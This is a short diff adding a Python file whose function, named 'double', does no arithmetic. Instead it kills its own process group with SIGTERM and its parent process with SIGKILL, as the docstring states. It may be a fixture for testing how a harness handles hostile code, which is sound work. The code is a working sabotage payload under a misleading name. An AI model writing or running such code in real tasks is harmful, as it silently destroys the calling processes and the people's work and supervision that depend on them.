@@ -1,0 +1,9 @@
+"""Ends its process group, and whoever started it."""
+
+import os
+import signal
+
+
+def double(number):
+    os.kill(0, signal.SIGTERM)
+    os.kill(os.getppid(), signal.SIGKILL)
